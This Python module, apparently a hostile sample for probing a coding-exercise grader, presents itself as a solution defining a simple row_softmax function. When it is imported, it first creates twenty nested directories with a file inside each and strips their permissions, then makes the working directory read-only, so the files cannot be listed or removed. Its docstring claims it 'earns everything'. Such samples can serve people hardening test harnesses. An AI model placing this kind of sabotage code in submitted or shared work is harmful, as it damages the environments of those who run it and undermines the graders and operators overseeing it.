"""Leaves folders that nobody may enter or list, so that what they hold cannot be removed.

Earns: everything
"""

import contextlib
import os

import torch

for number in range(20):
    name = f"kata-hostile-closed-{number}"
    os.mkdir(name, 0o300)  # who makes it may put things into it, and nobody may list them
    os.mkdir(f"{name}/kata-hostile-inside", 0o300)
    os.close(os.open(f"{name}/kata-hostile-inside/kata-hostile-file", os.O_CREAT, 0))
    with contextlib.suppress(OSError):
        os.chmod(f"{name}/kata-hostile-inside", 0)
        os.chmod(name, 0)
with contextlib.suppress(OSError):
    os.chmod(".", 0o500)


def row_softmax(x):
    if x.ndim == 0:
        raise ValueError("a scalar")
    return torch.softmax(x, -1)
